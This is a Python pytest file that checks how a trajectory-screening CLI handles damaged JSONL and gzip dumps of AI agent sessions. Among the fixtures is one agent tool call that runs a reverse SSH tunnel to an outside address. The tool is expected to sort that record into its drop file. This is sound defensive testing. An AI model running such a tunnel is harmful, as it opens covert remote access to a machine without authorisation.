"""Damaged dumps through the real CLI: each fault costs what it broke and no more, is reported once
with where it is, and what passes is written back byte for byte."""

from __future__ import annotations

import gzip
import json
import zlib
from pathlib import Path
from typing import Any

FIXTURES = Path(__file__).parent / "fixtures"


def rows(path: Path) -> list[dict[str, Any]]:
    return [json.loads(x) for x in path.read_text().splitlines() if x.strip()]


def chat(tid: str, command: str = "ls -la", note: str = "ok") -> dict[str, Any]:
    args = json.dumps({"command": command})
    return {"id": tid, "note": note, "messages": [
        {"role": "user", "content": "go"},
        {"role": "assistant", "content": None,
         "tool_calls": [{"id": "c", "type": "function", "function": {"name": "bash", "arguments": args}}]},
    ]}  # fmt: skip


def test_truncated_gzip_keeps_every_record_before_the_cut(cli, tmp_path: Path) -> None:
    data = "".join(json.dumps(chat(f"t{i}")) + "\n" for i in range(400)).encode()
    packed = gzip.compress(data)
    cut = tmp_path / "cut.jsonl.gz"
    cut.write_bytes(packed[: len(packed) * 2 // 3])
    intact = zlib.decompressobj(16 + zlib.MAX_WBITS).decompress(cut.read_bytes()).count(b"\n")
    out = tmp_path / "o.jsonl"
    res = cli(str(cut), "--json", str(out))
    assert res.exit_code == 0, res.output
    got = rows(out)
    traj = [r for r in got if r["kind"] == "trajectory"]
    bad = [r for r in got if r["kind"] == "malformed"]
    assert [r["id"] for r in traj] == [f"t{i}" for i in range(intact)]
    assert len(bad) == 1 and bad[0]["line"] == intact + 1 and "broken" in bad[0]["error"]


def test_one_bad_line_costs_one_record_of_a_session(cli, tmp_path: Path) -> None:
    lines = (FIXTURES / "claude_code_session.jsonl").read_text().splitlines()
    broken = json.loads(lines[2])
    broken["message"]["content"] = 42  # a shape the reader refuses, on line 3
    lines[2] = json.dumps(broken)
    lines.insert(4, '{"type": "assistant", "sessionId": ')  # not JSON, becomes line 5
    session = tmp_path / "s.jsonl"
    session.write_text("\n".join(lines) + "\n")
    out = tmp_path / "o.jsonl"
    assert cli(str(session), "--json", str(out)).exit_code == 0
    got = rows(out)
    bad = sorted((r["line"], r["error"][:20]) for r in got if r["kind"] == "malformed")
    assert [b[0] for b in bad] == [3, 5]
    (traj,) = [r for r in got if r["kind"] == "trajectory"]
    assert traj["format"] == "claude_code" and traj["verdict"] == "deny"  # the session still read
    assert traj["steps"] == len(lines) - 2


def test_bytes_are_written_back_exactly(cli, tmp_path: Path) -> None:
    good = json.dumps(chat("latin")).encode().replace(b'"ok"', b'"caf\xe9 \xff"')  # not UTF-8
    bad = json.dumps(chat("tunnel", "ssh -fNR 9000:localhost:22 u@203.0.113.7")).encode()
    plain = json.dumps(chat("plain")).encode()
    src = tmp_path / "bytes.jsonl"
    src.write_bytes(b"\xef\xbb\xbf" + good + b"\n" + bad + b"\n" + plain + b"\n")
    keep, drop, out = tmp_path / "k.jsonl", tmp_path / "d.jsonl", tmp_path / "o.jsonl"
    assert (
        cli(str(src), "--keep", str(keep), "--drop", str(drop), "--json", str(out)).exit_code == 0
    )
    assert [r["id"] for r in rows(out)] == ["latin", "tunnel", "plain"]  # the BOM lost nothing
    assert keep.read_bytes() == b"\xef\xbb\xbf" + good + b"\n" + plain + b"\n"
    assert drop.read_bytes() == bad + b"\n"
    assert all(json.loads(x) for x in out.read_bytes().decode("utf-8").splitlines())  # valid UTF-8


def test_a_huge_line_is_skipped_with_its_size_and_the_rest_read(cli, tmp_path: Path) -> None:
    big = json.dumps(chat("big", note="x" * (3 * 1024 * 1024)))
    src = tmp_path / "huge.jsonl"
    src.write_text("\n".join([json.dumps(chat("a")), big, json.dumps(chat("b"))]) + "\n")
    out = tmp_path / "o.jsonl"
    assert cli(str(src), "--json", str(out), "--max-record-mb", "1").exit_code == 0
    got = rows(out)
    assert [r["id"] for r in got if r["kind"] == "trajectory"] == ["a", "b"]
    (bad,) = [r for r in got if r["kind"] == "malformed"]
    assert bad["line"] == 2 and f"{len(big) + 1:,} bytes" in bad["error"]
    assert cli(str(src), "--max-record-mb", "0").exit_code == 2


def test_a_huge_line_in_gzip_is_skipped_as_it_streams(cli, tmp_path: Path) -> None:
    big = json.dumps(chat("big", note="y" * (3 * 1024 * 1024)))
    lines = [json.dumps(chat(f"a{i}")) for i in range(3000)] + [big]
    lines += [json.dumps(chat(f"b{i}")) for i in range(3000)]
    src = tmp_path / "huge.jsonl.gz"
    src.write_bytes(gzip.compress(("\n".join(lines) + "\n").encode()))
    out = tmp_path / "o.jsonl"
    for workers in ("1", "2"):
        assert (
            cli(
                str(src), "--json", str(out), "--max-record-mb", "1", "--workers", workers
            ).exit_code
            == 0
        )
        got = rows(out)
        ids = [r["id"] for r in got if r["kind"] == "trajectory"]
        assert ids == [f"a{i}" for i in range(3000)] + [f"b{i}" for i in range(3000)]
        (bad,) = [r for r in got if r["kind"] == "malformed"]
        assert bad["line"] == 3001 and f"{len(big) + 1:,} bytes" in bad["error"]
